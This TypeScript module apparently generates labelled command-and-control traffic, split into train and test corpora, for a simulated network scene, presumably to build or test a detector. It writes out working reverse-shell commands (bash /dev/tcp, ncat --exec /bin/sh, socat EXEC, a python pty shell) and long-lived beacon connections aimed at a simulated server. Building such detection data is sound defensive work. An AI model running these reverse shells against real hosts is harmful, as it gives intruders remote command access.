import { between, during, pause } from '../scene.ts'
import type { Attack } from '../scene.ts'
import { begin, beside, python, serve } from './rented-programs.ts'
import type { Served, Service } from './rented-programs.ts'
import { beat, describeRhythm, drawRhythm } from './rhythm.ts'

/** One connection that lives as long as the attack. */
interface LongFlow {
  readonly name: string
  readonly tool: string
  readonly corpora: Attack['corpora']
  readonly seconds: number
  readonly service: Service
  readonly command: (served: Served) => readonly string[]
}

/** The rhythm is inside one connection. */
const HEARTBEATS: readonly LongFlow[] = [
  {
    name: 'ncat-tls-heartbeat', tool: 'ncat', corpora: ['train'], seconds: 480, service: 'echo-tls',
    command: ({ server, port }) => ['ncat', '--ssl', server.address, String(port)],
  },
  {
    name: 'bash-tcp-heartbeat', tool: 'bash', corpora: ['train'], seconds: 360, service: 'echo',
    command: ({ server, port }) => ['bash', '-c', `exec 3<>/dev/tcp/${server.address}/${port}; cat <&3 & cat >&3`],
  },
  {
    name: 'openssl-tls-heartbeat', tool: 'openssl', corpora: ['test'], seconds: 480, service: 'echo-tls',
    command: ({ server, port }) => ['openssl', 's_client', '-quiet', '-connect', `${server.address}:${port}`],
  },
]

/** Somebody types into a shell that the actor opened. */
const SHELLS: readonly LongFlow[] = [
  {
    name: 'bash-reverse-shell', tool: 'bash', corpora: ['train'], seconds: 300, service: 'shell',
    command: ({ server, port }) => ['bash', '-c', `bash >& /dev/tcp/${server.address}/${port} 0>&1`],
  },
  {
    name: 'ncat-tls-reverse-shell', tool: 'ncat', corpora: ['train'], seconds: 330, service: 'shell-tls',
    command: ({ server, port }) => ['ncat', '--ssl', '--exec', '/bin/sh', server.address, String(port)],
  },
  {
    name: 'socat-reverse-shell', tool: 'socat', corpora: ['test'], seconds: 300, service: 'shell',
    command: ({ server, port }) => ['socat', `TCP:${server.address}:${port}`, 'EXEC:/bin/sh,pty,stderr,setsid,sigint,sane'],
  },
  {
    name: 'python-reverse-shell', tool: 'python-pty-shell', corpora: ['test'], seconds: 330, service: 'shell',
    command: ({ server, port }) => python('shell.py', server.address, port),
  },
]

function heartbeatOf({ name, tool, corpora, seconds, service, command }: LongFlow): Attack {
  return {
    name, tool, corpora, seconds, category: 'c2', place: 'inside', isAlone: false,
    play: (scene) => serve(scene, service, (served) => {
      const rhythm = drawRhythm(scene)
      const octets = between(scene.random, 16, 400)
      const words = `${name} ${describeRhythm(rhythm)}, ${octets} octets, port ${served.port}`
      const truth = { role: 'entity', address: scene.actor.address, peers: [served.server.address], category: 'c2', tool: words } as const
      return during(scene, truth, () => beside(begin(scene, scene.actor, { command: command(served) }), (implant) => {
        let before = 0
        return beat(scene, rhythm, () => {
          // What has come since the last beat answers that one; the first has nothing to look back to.
          const now = served.running.got().count
          const isAnswered = now > before || now === 0
          before = now
          if (!implant.isRunning()) throw new Error(`the connection ended: ${implant.output()}`)
          implant.write(`${'x'.repeat(octets)}\n`)
          return Promise.resolve(isAnswered)
        })
      }))
    }),
  }
}

const REPLIES_MIN = 5

function shellOf({ name, tool, corpora, seconds, service, command }: LongFlow): Attack {
  return {
    name, tool, corpora, seconds, category: 'c2', place: 'inside', isAlone: false,
    play: (scene) => serve(scene, service, (served) => {
      const words = `${name}, port ${served.port}`
      const truth = { role: 'entity', address: scene.actor.address, peers: [served.server.address], category: 'c2', tool: words } as const
      return during(scene, truth, () => beside(begin(scene, scene.actor, { command: command(served) }), async (implant) => {
        await pause(scene, Infinity)
        const { count } = served.running.got()
        if (!implant.isRunning() || count < REPLIES_MIN) throw new Error(`the shell answered ${count} times: ${implant.output()}`)
      }))
    }),
  }
}

/** Implants with a single long connection. */
export const LONG_BEACONS: readonly Attack[] = [...HEARTBEATS.map(heartbeatOf), ...SHELLS.map(shellOf)]
